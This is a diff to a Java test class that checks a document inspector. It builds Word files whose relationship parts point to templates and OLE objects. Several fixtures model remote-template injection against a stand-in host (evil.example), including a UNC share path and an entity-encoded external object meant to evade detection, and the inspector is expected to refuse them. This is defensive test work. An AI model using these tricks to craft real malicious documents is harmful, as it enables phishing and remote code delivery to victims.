@@ -34,6 +34,14 @@ class InspectionTest {
     @TempDir
     Path directory;
 
+    /** A Word file with a part of that type at that place. */
+    private static byte[] pointing(String type, String target, String mode) {
+        return docxWith("word/_rels/settings.xml.rels", """
+                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a"
+                 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"
+                 TargetMode="%s"/></Relationships>""".formatted(type, target, mode));
+    }
+
     static Stream<Arguments> harmless() {
         return Stream.of(
                 arguments("a plain PDF", pdf(""), "pdf", FileKind.PDF),
@@ -47,6 +55,21 @@ class InspectionTest {
                         "pdf",
                         FileKind.PDF),
                 arguments("a Word file", docx(), "docx", FileKind.DOCX),
+                arguments(
+                        "a Word file with a link",
+                        pointing("hyperlink", "https://example.org/", "External"),
+                        "docx",
+                        FileKind.DOCX),
+                arguments(
+                        "a Word file with a template of its author's",
+                        pointing("attachedTemplate", "file:///C:\\Users\\li\\report.dotx", "External"),
+                        "docx",
+                        FileKind.DOCX),
+                arguments(
+                        "a Word file with an object in it",
+                        pointing("oleObject", "embeddings/oleObject1.bin", "Internal"),
+                        "docx",
+                        FileKind.DOCX),
                 arguments("an Excel file", Samples.xlsx(), "xlsx", FileKind.XLSX),
                 arguments("a PowerPoint file", Samples.pptx(), "pptx", FileKind.PPTX),
                 arguments("an old Word file", ole("WordDocument", "", ""), "doc", FileKind.DOC),
@@ -196,6 +219,26 @@ class InspectionTest {
                         pdf("<</Filter/Standard>> trailer <</Encrypt 5 0 R>>"),
                         "pdf",
                         RefusedBecause.ENCRYPTED),
+                arguments(
+                        "a Word file with a remote template",
+                        pointing("attachedTemplate", "https://evil.example/x.dotm", "External"),
+                        "docx",
+                        RefusedBecause.EXTERNAL),
+                arguments(
+                        "a Word file with a template on a share",
+                        pointing("attachedTemplate", "file://///evil.example/x.dotm", "External"),
+                        "docx",
+                        RefusedBecause.EXTERNAL),
+                arguments(
+                        "a Word file with a remote object in disguise",
+                        pointing("oleObj&#x65;ct", "https://evil.example/x", "&#69;xternal"),
+                        "docx",
+                        RefusedBecause.EXTERNAL),
+                arguments(
+                        "a Word file whose parts point nowhere",
+                        docxWith("word/_rels/document.xml.rels", "<Relationships>"),
+                        "docx",
+                        RefusedBecause.DAMAGED),
                 arguments(
                         "a Word file with macros", docxWith("word/vbaProject.bin", "x"), "docx", RefusedBecause.MACRO),
                 arguments(
